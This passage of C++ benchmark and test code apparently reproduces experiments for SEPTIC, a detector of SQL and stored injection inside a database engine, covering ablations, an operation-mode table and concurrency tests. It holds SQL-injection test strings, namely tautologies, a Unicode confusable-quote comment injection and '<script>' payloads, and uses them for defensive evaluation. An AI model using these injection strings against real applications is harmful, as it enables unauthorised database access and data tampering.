  std::printf("# Ablation: data-type strictness in QS/QM comparison\n\n");
  std::printf("%-10s %-12s %18s %14s\n", "app", "typing",
              "benign FPs", "attacks blocked");
  for (const char* app : {"tickets", "waspmon"}) {
    for (bool strict : {false, true}) {
      Result r = run(app, strict, 20260707);
      std::printf("%-10s %-12s %11zu/%-6zu %8zu/%zu\n", app,
                  strict ? "strict" : "compatible", r.false_positives,
                  r.benign_total, r.attacks_blocked, r.attacks_total);
    }
  }
  std::printf(
      "\n# expected: identical attack blocking in both settings; strict "
      "typing pays for its rigor with false positives whenever benign "
      "numeric inputs cross the INT/DECIMAL spelling boundary\n");
  return 0;
}

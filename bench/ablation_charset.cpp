// Experiment E9 (ablation) — the semantic-mismatch mechanism itself.
//
// The paper's headline attacks (Section II-D, IV-A) only exist because the
// server converts incoming statement text to its connection character set,
// collapsing confusable codepoints into SQL metacharacters after every
// application-side defence already ran. This ablation runs the attack
// corpus against the same deployment with conversion ON (the paper's
// latin1-connection MySQL) and OFF (a strict binary/utf8mb4 server):
// the Unicode-borne attacks must detonate only under conversion, while the
// plain-ASCII ones are unaffected — isolating exactly which attacks owe
// their existence to the mismatch.
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "common/unicode.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

struct Deployment {
  std::unique_ptr<engine::Database> db;
  std::unique_ptr<web::App> app;
  std::unique_ptr<web::WebStack> stack;
};

Deployment make(const std::string& app_name, bool conversion) {
  Deployment d;
  d.db = std::make_unique<engine::Database>();
  d.db->set_charset_conversion(conversion);
  if (app_name == "tickets") {
    d.app = std::make_unique<web::apps::TicketsApp>();
  } else {
    d.app = std::make_unique<web::apps::WaspMonApp>();
  }
  d.app->install(*d.db);
  d.stack = std::make_unique<web::WebStack>(*d.app, *d.db);
  return d;
}

}  // namespace

int main() {
  std::printf("# Ablation: server charset conversion on/off vs the attack "
              "corpus\n");
  std::printf("# oracle: SEPTIC in detection mode (logs structural change, "
              "blocks nothing)\n\n");
  std::printf("%-4s %-22s %-12s %-14s %-14s\n", "id", "category",
              "uses-unicode", "conv=ON", "conv=OFF");

  for (const auto& attack : attacks::all_attacks()) {
    bool uses_unicode = false;
    for (const auto& setup : attack.setup) {
      for (const auto& [k, v] : setup.params) {
        if (common::has_confusable_quote(v)) uses_unicode = true;
      }
    }
    for (const auto& [k, v] : attack.attack.params) {
      if (common::has_confusable_quote(v)) uses_unicode = true;
    }

    std::string outcome[2];
    int i = 0;
    for (bool conversion : {true, false}) {
      Deployment d = make(attack.app, conversion);
      auto septic = std::make_shared<core::Septic>();
      septic->set_log_processed_queries(false);
      d.db->set_interceptor(septic);
      septic->set_mode(core::Mode::kTraining);
      web::train_on_application(*d.stack);
      septic->set_mode(core::Mode::kDetection);  // oracle only

      for (const auto& setup : attack.setup) d.stack->handle(setup);
      d.stack->handle(attack.attack);
      bool detonated = septic->stats().sqli_detected > 0 ||
                       septic->stats().stored_detected > 0;
      outcome[i++] = detonated ? "DETONATES" : "inert";
    }
    std::printf("%-4s %-22s %-12s %-14s %-14s\n", attack.id.c_str(),
                attack.category.c_str(), uses_unicode ? "yes" : "no",
                outcome[0].c_str(), outcome[1].c_str());
  }

  std::printf(
      "\n# expected: every uses-unicode attack detonates ONLY with "
      "conversion ON; plain-ASCII attacks detonate in both columns — the "
      "mismatch is necessary and sufficient for the Unicode class\n");
  return 0;
}

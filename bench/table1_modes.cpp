// Experiment E3 — reproduces paper Table I: "Operation modes and actions
// taken by SEPTIC". For each mode (training / prevention / detection) the
// harness sends (a) a benign known query, (b) an attacking query, and (c) a
// previously unseen query, and records which actions SEPTIC took:
//   query-model: T (trained), I (incrementally learned), Log
//   attack detection: SQLI, Stored-Inj, Log
//   query: Drop, Exec
// The printed matrix must match Table I row for row.
#include <cstdio>
#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"

using namespace septic;

namespace {

struct Observed {
  bool model_trained = false;       // model created in training mode
  bool model_incremental = false;   // model created in normal mode
  bool model_logged = false;
  bool sqli_detected = false;
  bool stored_detected = false;
  bool attack_logged = false;
  bool dropped = false;
  bool executed = false;
};

char mark(bool b) { return b ? 'x' : ' '; }

}  // namespace

int main() {
  std::printf("# Table I: operation modes and actions taken by SEPTIC\n\n");
  std::printf(
      "%-11s | %-3s %-3s %-3s | %-5s %-9s %-3s | %-4s %-4s\n", "mode", "T",
      "I", "Log", "SQLI", "StoredInj", "Log", "Drop", "Exec");
  std::printf(
      "------------+-------------+---------------------+-----------\n");

  const core::Mode modes[] = {core::Mode::kTraining, core::Mode::kPrevention,
                              core::Mode::kDetection};

  for (core::Mode mode : modes) {
    Observed row;

    engine::Database db;
    db.execute_admin("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
                     "a TEXT, b INT)");
    db.execute_admin("INSERT INTO t (a, b) VALUES ('x', 1)");
    auto septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);
    engine::Session session;

    // Pre-train one query so normal modes have a model to compare with.
    septic->set_mode(core::Mode::kTraining);
    db.execute(session, "SELECT a FROM t WHERE b = 1");

    size_t models_before = septic->store().model_count();
    uint64_t executed_before = db.executed_count();
    septic->set_mode(mode);

    // (a) benign known query.
    try {
      db.execute(session, "SELECT a FROM t WHERE b = 2");
    } catch (const engine::DbError&) {
    }
    // (b) SQLI attack on the known query.
    try {
      db.execute(session, "SELECT a FROM t WHERE b = 2 OR 1 = 1");
    } catch (const engine::DbError&) {
      row.dropped = true;
    }
    // (b') stored-injection attack (INSERT is unknown -> also exercises
    // incremental learning in normal mode).
    try {
      db.execute(session,
                 "INSERT INTO t (a, b) VALUES ('<script>x</script>', 1)");
    } catch (const engine::DbError&) {
      row.dropped = true;
    }
    // (c) a fresh benign query shape.
    try {
      db.execute(session, "SELECT b FROM t WHERE a = 'x'");
    } catch (const engine::DbError&) {
    }

    auto& log = septic->event_log();
    size_t created_now = septic->store().model_count() - models_before;
    if (mode == core::Mode::kTraining) {
      row.model_trained = created_now > 0;
    } else {
      row.model_incremental = created_now > 0;
    }
    row.model_logged =
        log.count_of(core::EventKind::kModelCreated) > 1;  // beyond pre-train
    row.sqli_detected = septic->stats().sqli_detected > 0;
    row.stored_detected = septic->stats().stored_detected > 0;
    row.attack_logged = log.count_of(core::EventKind::kSqliDetected) +
                            log.count_of(core::EventKind::kStoredDetected) >
                        0;
    row.executed = db.executed_count() > executed_before;

    std::printf("%-11s | %-3c %-3c %-3c | %-5c %-9c %-3c | %-4c %-4c\n",
                core::mode_name(mode), mark(row.model_trained),
                mark(row.model_incremental), mark(row.model_logged),
                mark(row.sqli_detected), mark(row.stored_detected),
                mark(row.attack_logged), mark(row.dropped),
                mark(row.executed));
  }

  std::printf(
      "\n# expected (paper Table I):\n"
      "#   TRAINING   : T, Log(model)           ; Exec\n"
      "#   PREVENTION : I, Log ; SQLI, StoredInj, Log ; Drop (and Exec for "
      "benign)\n"
      "#   DETECTION  : I, Log ; SQLI, StoredInj, Log ; Exec (never Drop)\n");
  return 0;
}

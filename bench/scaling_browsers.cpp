// Experiment E2 — the client-scaling sweep of paper Section II-F: "started
// with one machine running one browser executing the refbase workload, next
// we gradually increased the number of machines... then 8, 12, 16 and 20
// browsers". At each concurrency level the paired-rounds methodology of the
// harness compares the vanilla engine against the full YY configuration;
// the expected shape is throughput that saturates with concurrency while
// the SEPTIC overhead stays small at every level.
#include <cstdio>

#include "harness.h"

using namespace septic::bench;

int main() {
  const int browser_counts[] = {1, 2, 3, 4, 8, 12, 16, 20};
  const int loops = bench_loops();
  const int rounds = bench_rounds();

  std::printf("# Scaling: refbase workload, 1..20 browsers, vanilla vs YY\n");
  std::printf("# loops=%d rounds=%d rows=%d\n", loops, rounds, bench_rows());
  std::printf("%-9s %16s %16s %14s %10s\n", "browsers", "vanilla_p50_us",
              "yy_p50_us", "vanilla_rps", "overhead%");

  for (int browsers : browser_counts) {
    OverheadResult r = measure_overhead("refbase", SepticConfig::kYY,
                                        browsers, loops, rounds);
    std::printf("%-9d %16.1f %16.1f %14.0f %9.2f%%\n", browsers,
                r.baseline.p50_us, r.measured.p50_us,
                r.baseline.throughput_rps, r.overhead_pct);
  }
  return 0;
}

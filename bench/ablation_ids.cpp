// Experiment E7 (ablation) — external identifiers (paper Section II-C2).
//
// SEPTIC's query ID composes an optional application-supplied external
// identifier with its own internal one. This ablation runs the same
// train-then-attack sequence with and without the SSLE emitting external
// IDs and reports:
//   - how many distinct IDs / models the store holds (external IDs separate
//     call sites that would otherwise share an internal ID);
//   - internal-ID collision rate (IDs carrying more than one model);
//   - detection outcome over the attack corpus (should stay complete in
//     both settings — the internal ID is attack-invariant by construction).
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

struct Result {
  size_t ids = 0;
  size_t models = 0;
  size_t collided_ids = 0;
  size_t attacks_blocked = 0;
  size_t attacks_total = 0;
  size_t false_positives = 0;
};

Result run(const std::string& app_name, bool external_ids) {
  engine::Database db;
  std::unique_ptr<web::App> app;
  if (app_name == "tickets") {
    app = std::make_unique<web::apps::TicketsApp>();
  } else {
    app = std::make_unique<web::apps::WaspMonApp>();
  }
  app->install(db);
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  web::WebStack stack(*app, db);
  stack.config().emit_external_ids = external_ids;

  septic->set_mode(core::Mode::kTraining);
  web::train_on_application(stack);
  septic->set_mode(core::Mode::kPrevention);

  Result r;
  r.ids = septic->store().id_count();
  r.models = septic->store().model_count();
  // Collisions: ids holding >1 model.
  r.collided_ids = r.models > r.ids ? r.models - r.ids : 0;

  auto corpus = app_name == "tickets" ? attacks::tickets_attacks()
                                      : attacks::waspmon_attacks();
  for (const auto& attack : corpus) {
    ++r.attacks_total;
    bool blocked = false;
    for (const auto& setup : attack.setup) {
      if (stack.handle(setup).blocked()) blocked = true;
    }
    if (!blocked) blocked = stack.handle(attack.attack).blocked();
    if (blocked) ++r.attacks_blocked;
  }
  for (const auto& probe : attacks::benign_probes(app_name)) {
    if (stack.handle(probe).blocked()) ++r.false_positives;
  }
  return r;
}

}  // namespace

int main() {
  std::printf("# Ablation: external identifiers on/off (Section II-C2)\n\n");
  std::printf("%-10s %-10s %6s %7s %10s %9s %4s\n", "app", "ext-ids", "ids",
              "models", "collisions", "blocked", "FPs");
  for (const char* app : {"tickets", "waspmon"}) {
    for (bool ext : {true, false}) {
      Result r = run(app, ext);
      std::printf("%-10s %-10s %6zu %7zu %10zu %6zu/%zu %4zu\n", app,
                  ext ? "on" : "off", r.ids, r.models, r.collided_ids,
                  r.attacks_blocked, r.attacks_total, r.false_positives);
    }
  }
  std::printf(
      "\n# expected: with ext-ids ON the store separates call sites (more "
      "ids, fewer collisions); detection stays complete and FP-free either "
      "way because the internal ID is attack-invariant\n");
  return 0;
}

// BenchLab-style workload driver (paper Section II-F): the original testbed
// replayed recorded browser sessions against the web applications from
// multiple client machines, each running several browsers. Here a "browser"
// is a thread replaying the application's recorded workload in a loop, and
// the per-request latency distribution is collected exactly as BenchLab's
// clients measured theirs.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "engine/database.h"
#include "septic/septic.h"
#include "web/framework.h"
#include "web/stack.h"

namespace septic::bench {

/// The Fig. 5 SEPTIC configurations: (SQLI detection, stored detection).
enum class SepticConfig {
  kVanilla,  // no SEPTIC installed at all (the baseline)
  kNN,       // SEPTIC installed, both detections off
  kYN,       // SQLI only
  kNY,       // stored-injection only
  kYY,       // both
};

const char* septic_config_name(SepticConfig c);

/// A ready-to-benchmark deployment: app installed, SEPTIC (if any) trained
/// on the workload and switched to prevention with the requested toggles.
struct Deployment {
  std::unique_ptr<engine::Database> db;
  std::unique_ptr<web::App> app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;  // null for kVanilla
};

/// app_name: "tickets", "waspmon", "addressbook", "refbase", "zerocms".
/// `prepopulate_rows` > 0 bulk-loads that many synthetic rows into the
/// app's main tables first, so that per-request cost is dominated by real
/// query work and the rows the workload itself inserts are marginal —
/// without this, table growth across measurement rounds drowns the
/// overhead signal.
Deployment make_deployment(const std::string& app_name, SepticConfig config,
                           int prepopulate_rows = 0);

/// SEPTIC_BENCH_ROWS (default 3000).
int bench_rows();

struct LatencyStats {
  size_t requests = 0;
  double mean_us = 0;
  double trimmed_mean_us = 0;  // mean of the middle 90% (stable for the
                               // bimodal static+dynamic request mixtures)
  double p50_us = 0;
  double p95_us = 0;
  double p99_us = 0;
  double max_us = 0;
  double wall_seconds = 0;
  double throughput_rps = 0;
  size_t errors = 0;  // non-2xx responses (should stay 0 on benign runs)
};

/// Replay the app's recorded workload `loops` times on each of `browsers`
/// threads; returns the merged latency distribution.
LatencyStats run_workload(Deployment& deployment, int browsers, int loops);

/// Percentage overhead of `measured` vs `baseline` mean latency.
double overhead_percent(const LatencyStats& baseline,
                        const LatencyStats& measured);

/// Paired overhead measurement. On a shared-memory engine the per-query
/// SEPTIC cost (a few microseconds) is far below scheduler/contention
/// noise, so a single long run of baseline-then-config produces unusable
/// deltas. Instead the two deployments are exercised in interleaved rounds
/// (B, C, B, C, ...); each round pair yields one overhead sample from its
/// median latencies, and the reported overhead is the median of those
/// samples — robust to drift and tail noise.
struct OverheadResult {
  LatencyStats baseline;  // last baseline round
  LatencyStats measured;  // last config round
  double overhead_pct = 0;
};
OverheadResult measure_overhead(const std::string& app_name,
                                SepticConfig config, int browsers, int loops,
                                int rounds);

/// SEPTIC_BENCH_ROUNDS (default 7).
int bench_rounds();

/// Benchmark scale knobs, overridable via environment for quick runs:
///   SEPTIC_BENCH_BROWSERS (default 20), SEPTIC_BENCH_LOOPS (default 30).
int bench_browsers();
int bench_loops();

}  // namespace septic::bench

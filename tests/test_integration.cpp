// Cross-cutting integration tests: belt-and-braces deployments (WAF +
// proxy + SEPTIC together), SEPTIC under concurrent sessions, and the
// charset-conversion ablation as assertions.
#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <thread>

#include "attacks/corpus.h"
#include "common/unicode.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic {
namespace {

TEST(BeltAndBraces, AllLayersTogetherBlockEverythingFpFree) {
  engine::Database db;
  web::apps::WaspMonApp app;
  app.install(db);
  auto guard = std::make_shared<core::Septic>();
  db.set_interceptor(guard);
  web::WebStack stack(app, db);

  guard->set_mode(core::Mode::kTraining);
  web::train_on_application(stack);
  guard->set_mode(core::Mode::kPrevention);
  stack.config().waf_enabled = true;
  stack.config().proxy_enabled = true;
  web::train_on_application(stack);  // teach the proxy too
  stack.proxy().set_mode(web::QueryFirewall::Mode::kProtect);

  for (const auto& attack : attacks::waspmon_attacks()) {
    bool blocked = false;
    for (const auto& setup : attack.setup) {
      if (stack.handle(setup).blocked()) blocked = true;
    }
    if (!blocked) blocked = stack.handle(attack.attack).blocked();
    EXPECT_TRUE(blocked) << attack.id;
  }
  for (const auto& probe : attacks::benign_probes("waspmon")) {
    web::Response r = stack.handle(probe);
    EXPECT_FALSE(r.blocked()) << probe.to_string() << " by " << r.blocked_by;
  }
}

TEST(Concurrency, SepticUnderParallelSessions) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE cc (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT, n INT)");
  db.execute_admin("INSERT INTO cc (v, n) VALUES ('a', 1), ('b', 2)");
  auto guard = std::make_shared<core::Septic>();
  guard->set_log_processed_queries(false);
  db.set_interceptor(guard);

  engine::Session trainer;
  guard->set_mode(core::Mode::kTraining);
  db.execute(trainer, "SELECT v FROM cc WHERE n = 1");
  db.execute(trainer, "INSERT INTO cc (v, n) VALUES ('x', 9)");
  guard->set_mode(core::Mode::kPrevention);

  constexpr int kThreads = 8;
  constexpr int kRounds = 50;
  std::atomic<int> benign_ok{0};
  std::atomic<int> attacks_blocked{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      engine::Session session;
      for (int i = 0; i < kRounds; ++i) {
        try {
          db.execute(session, "SELECT v FROM cc WHERE n = " +
                                  std::to_string(i % 7));
          ++benign_ok;
        } catch (const engine::DbError&) {
        }
        if (t % 2 == 0) {
          try {
            db.execute(session,
                       "SELECT v FROM cc WHERE n = 1 OR 1 = 1");
          } catch (const engine::DbError& e) {
            if (e.code() == engine::ErrorCode::kBlocked) ++attacks_blocked;
          }
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(benign_ok.load(), kThreads * kRounds);
  EXPECT_EQ(attacks_blocked.load(), kThreads / 2 * kRounds);
  EXPECT_EQ(guard->stats().sqli_detected,
            static_cast<uint64_t>(attacks_blocked.load()));
}

// The E9 ablation as assertions: Unicode-borne attacks are inert without
// charset conversion and detonate with it; ASCII attacks are unaffected.
class CharsetAblation : public ::testing::TestWithParam<attacks::AttackCase> {
 protected:
  static bool uses_unicode(const attacks::AttackCase& attack) {
    for (const auto& setup : attack.setup) {
      for (const auto& [k, v] : setup.params) {
        if (common::has_confusable_quote(v)) return true;
      }
    }
    for (const auto& [k, v] : attack.attack.params) {
      if (common::has_confusable_quote(v)) return true;
    }
    return false;
  }

  static bool detonates(const attacks::AttackCase& attack, bool conversion) {
    engine::Database db;
    db.set_charset_conversion(conversion);
    std::unique_ptr<web::App> app;
    if (attack.app == "tickets") {
      app = std::make_unique<web::apps::TicketsApp>();
    } else {
      app = std::make_unique<web::apps::WaspMonApp>();
    }
    app->install(db);
    auto oracle = std::make_shared<core::Septic>();
    oracle->set_log_processed_queries(false);
    db.set_interceptor(oracle);
    web::WebStack stack(*app, db);
    oracle->set_mode(core::Mode::kTraining);
    web::train_on_application(stack);
    oracle->set_mode(core::Mode::kDetection);
    for (const auto& setup : attack.setup) stack.handle(setup);
    stack.handle(attack.attack);
    return oracle->stats().sqli_detected > 0 ||
           oracle->stats().stored_detected > 0;
  }
};

TEST_P(CharsetAblation, UnicodeAttacksRequireConversion) {
  const attacks::AttackCase& attack = GetParam();
  EXPECT_TRUE(detonates(attack, /*conversion=*/true)) << attack.id;
  if (uses_unicode(attack)) {
    EXPECT_FALSE(detonates(attack, /*conversion=*/false))
        << attack.id << " should be inert without charset conversion";
  } else {
    EXPECT_TRUE(detonates(attack, /*conversion=*/false))
        << attack.id << " is plain ASCII and should not depend on it";
  }
}

INSTANTIATE_TEST_SUITE_P(Corpus, CharsetAblation,
                         ::testing::ValuesIn(attacks::all_attacks()),
                         [](const auto& info) { return info.param.id; });

}  // namespace
}  // namespace septic

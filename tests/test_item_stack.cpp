#include "sqlcore/item.h"

#include <gtest/gtest.h>

#include "common/unicode.h"
#include "sqlcore/parser.h"

namespace septic::sql {
namespace {

ItemStack stack_of(std::string_view sql) {
  ParsedQuery q = parse(common::server_charset_convert(sql));
  return build_item_stack(q.statement);
}

std::vector<std::pair<std::string, std::string>> flat(const ItemStack& s) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& n : s.nodes) {
    out.emplace_back(item_type_name(n.type), n.data);
  }
  return out;
}

// Figure 2(a) of the paper: exact node layout, bottom-to-top.
TEST(ItemStack, PaperFigure2a) {
  ItemStack s = stack_of(
      "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = "
      "1234");
  std::vector<std::pair<std::string, std::string>> expected = {
      {"FROM_TABLE", "tickets"}, {"SELECT_FIELD", "*"},
      {"FIELD_ITEM", "reservID"}, {"STRING_ITEM", "ID34FG"},
      {"FUNC_ITEM", "="},         {"FIELD_ITEM", "creditCard"},
      {"INT_ITEM", "1234"},       {"FUNC_ITEM", "="},
      {"COND_ITEM", "AND"},
  };
  EXPECT_EQ(flat(s), expected);
}

// Figure 3: the second-order attack truncates the stack to 5 nodes.
TEST(ItemStack, PaperFigure3AttackStack) {
  ItemStack s = stack_of(
      "SELECT * FROM tickets WHERE reservID = 'ID34FG\xca\xbc-- ' AND "
      "creditCard = 0");
  std::vector<std::pair<std::string, std::string>> expected = {
      {"FROM_TABLE", "tickets"},  {"SELECT_FIELD", "*"},
      {"FIELD_ITEM", "reservID"}, {"STRING_ITEM", "ID34FG"},
      {"FUNC_ITEM", "="},
  };
  EXPECT_EQ(flat(s), expected);
}

// Figure 4: mimicry preserves the count but swaps a FIELD for an INT.
TEST(ItemStack, PaperFigure4MimicryStack) {
  ItemStack s =
      stack_of("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1");
  ASSERT_EQ(s.nodes.size(), 9u);
  EXPECT_EQ(s.nodes[5].type, ItemType::kIntItem);
  EXPECT_EQ(s.nodes[5].data, "1");
  EXPECT_EQ(s.nodes[6].type, ItemType::kIntItem);
}

TEST(ItemStack, QuotedNumberIsStringItem) {
  ItemStack s = stack_of("SELECT * FROM t WHERE a = '123'");
  EXPECT_EQ(s.nodes.back().type, ItemType::kFuncItem);
  EXPECT_EQ(s.nodes[s.nodes.size() - 2].type, ItemType::kStringItem);
}

TEST(ItemStack, InsertLayout) {
  ItemStack s = stack_of("INSERT INTO t (a, b) VALUES (1, 'x')");
  std::vector<std::pair<std::string, std::string>> expected = {
      {"INSERT_TABLE", "t"}, {"INSERT_FIELD", "a"}, {"INSERT_FIELD", "b"},
      {"ROW_ITEM", "ROW"},   {"INT_ITEM", "1"},     {"STRING_ITEM", "x"},
  };
  EXPECT_EQ(flat(s), expected);
  EXPECT_EQ(s.kind, StatementKind::kInsert);
}

TEST(ItemStack, MultiRowInsertHasRowMarkers) {
  ItemStack s = stack_of("INSERT INTO t (a) VALUES (1), (2)");
  size_t rows = 0;
  for (const auto& n : s.nodes) {
    if (n.type == ItemType::kRowItem) ++rows;
  }
  EXPECT_EQ(rows, 2u);
}

TEST(ItemStack, UpdateLayout) {
  ItemStack s = stack_of("UPDATE t SET a = 5 WHERE id = 3");
  std::vector<std::pair<std::string, std::string>> expected = {
      {"UPDATE_TABLE", "t"}, {"UPDATE_FIELD", "a"}, {"INT_ITEM", "5"},
      {"FUNC_ITEM", "="},    {"FIELD_ITEM", "id"},  {"INT_ITEM", "3"},
      {"FUNC_ITEM", "="},
  };
  EXPECT_EQ(flat(s), expected);
}

TEST(ItemStack, DeleteLayout) {
  ItemStack s = stack_of("DELETE FROM t WHERE id = 3");
  EXPECT_EQ(s.nodes[0].type, ItemType::kDeleteTable);
  EXPECT_EQ(s.kind, StatementKind::kDelete);
}

TEST(ItemStack, UnionAddsSetOpAndArmNodes) {
  ItemStack plain = stack_of("SELECT a FROM t WHERE b = 1");
  ItemStack with_union =
      stack_of("SELECT a FROM t WHERE b = 1 UNION SELECT c FROM u");
  EXPECT_GT(with_union.nodes.size(), plain.nodes.size());
  bool has_setop = false;
  for (const auto& n : with_union.nodes) {
    if (n.type == ItemType::kSetOpItem) has_setop = true;
  }
  EXPECT_TRUE(has_setop);
}

TEST(ItemStack, OrderLimitNodes) {
  ItemStack s = stack_of("SELECT a FROM t ORDER BY a DESC LIMIT 5");
  bool has_order = false, has_limit = false;
  for (const auto& n : s.nodes) {
    if (n.type == ItemType::kOrderItem && n.data == "DESC") has_order = true;
    if (n.type == ItemType::kLimitItem) has_limit = true;
  }
  EXPECT_TRUE(has_order);
  EXPECT_TRUE(has_limit);
}

TEST(ItemStack, FunctionArgsPostorder) {
  ItemStack s = stack_of("SELECT CONCAT(a, 'x') FROM t");
  // a, 'x', CONCAT, <expr> marker.
  ASSERT_GE(s.nodes.size(), 4u);
  EXPECT_EQ(s.nodes[1].type, ItemType::kFieldItem);
  EXPECT_EQ(s.nodes[2].type, ItemType::kStringItem);
  EXPECT_EQ(s.nodes[3].type, ItemType::kFuncItem);
  EXPECT_EQ(s.nodes[3].data, "CONCAT");
}

TEST(ItemStack, ToStringRendersTopDown) {
  ItemStack s = stack_of("SELECT * FROM t WHERE a = 1");
  std::string rendered = s.to_string();
  // Top of stack (FUNC_ITEM =) is printed first, FROM_TABLE last.
  EXPECT_LT(rendered.find("FUNC_ITEM"), rendered.find("FROM_TABLE"));
}

TEST(ItemStack, EqualityIsStructural) {
  EXPECT_EQ(stack_of("SELECT * FROM t WHERE a = 1"),
            stack_of("SELECT * FROM t WHERE a=1"));
  EXPECT_NE(stack_of("SELECT * FROM t WHERE a = 1"),
            stack_of("SELECT * FROM t WHERE a = 2"));
}

TEST(ExtractDataValues, InsertValues) {
  ParsedQuery q = parse("INSERT INTO t (a, b) VALUES (1, '<script>')");
  auto values = extract_data_values(q.statement);
  ASSERT_EQ(values.size(), 2u);
  EXPECT_EQ(values[1].as_string(), "<script>");
}

TEST(ExtractDataValues, UpdateValuesAndWhere) {
  ParsedQuery q = parse("UPDATE t SET a = 'payload' WHERE id = 7");
  auto values = extract_data_values(q.statement);
  ASSERT_EQ(values.size(), 2u);
  EXPECT_EQ(values[0].as_string(), "payload");
  EXPECT_EQ(values[1].as_int(), 7);
}

TEST(ExtractDataValues, SelectWhereAndUnionArms) {
  ParsedQuery q = parse(
      "SELECT a FROM t WHERE b = 'x' UNION SELECT c FROM u WHERE d = 'y'");
  auto values = extract_data_values(q.statement);
  ASSERT_EQ(values.size(), 2u);
  EXPECT_EQ(values[1].as_string(), "y");
}

}  // namespace
}  // namespace septic::sql

// MVCC transactions: BEGIN/COMMIT/ROLLBACK semantics, concurrent sessions
// proceeding alongside an open transaction, disconnect cleanup, and
// interaction with indexes and SEPTIC.
#include <gtest/gtest.h>

#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

namespace septic::engine {
namespace {

class TxnTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE acct (id INT PRIMARY KEY AUTO_INCREMENT, owner TEXT, "
        "balance INT)");
    db.execute_admin(
        "INSERT INTO acct (owner, balance) VALUES ('a', 100), ('b', 200)");
  }
  int64_t balance(const char* who) {
    return db
        .execute_admin(std::string("SELECT balance FROM acct WHERE owner = '") +
                       who + "'")
        .rows[0][0]
        .as_int();
  }
  Database db;
  Session session;
};

TEST_F(TxnTest, CommitKeepsChanges) {
  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = balance - 50 WHERE owner = 'a'");
  db.execute(session, "UPDATE acct SET balance = balance + 50 WHERE owner = 'b'");
  db.execute(session, "COMMIT");
  EXPECT_EQ(balance("a"), 50);
  EXPECT_EQ(balance("b"), 250);
  EXPECT_FALSE(db.in_transaction());
}

TEST_F(TxnTest, RollbackRestoresEverything) {
  db.execute(session, "START TRANSACTION");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  db.execute(session, "DELETE FROM acct WHERE owner = 'b'");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('c', 5)");
  db.execute(session, "ROLLBACK");
  EXPECT_EQ(balance("a"), 100);
  EXPECT_EQ(balance("b"), 200);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM acct").rows[0][0].as_int(),
            2);
}

TEST_F(TxnTest, RollbackBurnsAutoIncrementIds) {
  db.execute(session, "BEGIN");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('c', 1)");
  db.execute(session, "ROLLBACK");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('d', 1)");
  // The rolled-back insert reserved id 3 and never returned it (MySQL
  // semantics: auto-increment ids burn on rollback).
  EXPECT_EQ(db.execute_admin("SELECT id FROM acct WHERE owner = 'd'")
                .rows[0][0]
                .as_int(),
            4);
}

TEST_F(TxnTest, RollbackRestoresDdl) {
  db.execute(session, "BEGIN");
  db.execute(session, "CREATE TABLE scratch (x INT)");
  db.execute(session, "DROP TABLE acct");
  db.execute(session, "ROLLBACK");
  EXPECT_NE(db.catalog().find("acct"), nullptr);
  EXPECT_EQ(db.catalog().find("scratch"), nullptr);
}

TEST_F(TxnTest, RollbackPreservesIndexes) {
  db.execute_admin("CREATE INDEX idx_owner ON acct (owner)");
  db.execute(session, "BEGIN");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('a', 7)");
  db.execute(session, "ROLLBACK");
  // Index must still exist and answer correctly after snapshot restore.
  EXPECT_TRUE(db.catalog().require("acct").has_index_on("owner"));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM acct WHERE owner = 'a'")
                .rows[0][0]
                .as_int(),
            1);
}

TEST_F(TxnTest, NestedBeginRejected) {
  db.execute(session, "BEGIN");
  try {
    db.execute(session, "BEGIN");
    FAIL() << "nested BEGIN must throw";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kTxnState);
  }
  db.execute(session, "ROLLBACK");
}

TEST_F(TxnTest, CommitWithoutBeginRejected) {
  try {
    db.execute(session, "COMMIT");
    FAIL() << "orphan COMMIT must throw";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kTxnState);
  }
  try {
    db.execute(session, "ROLLBACK");
    FAIL() << "orphan ROLLBACK must throw";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kTxnState);
  }
}

TEST_F(TxnTest, OtherSessionsProceedWhileTransactionOpen) {
  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  Session other("other");
  // Snapshot isolation: the other session reads the committed state and
  // may even open its own transaction concurrently.
  auto rs = db.execute(other, "SELECT balance FROM acct WHERE owner = 'a'");
  EXPECT_EQ(rs.rows[0][0].as_int(), 100);
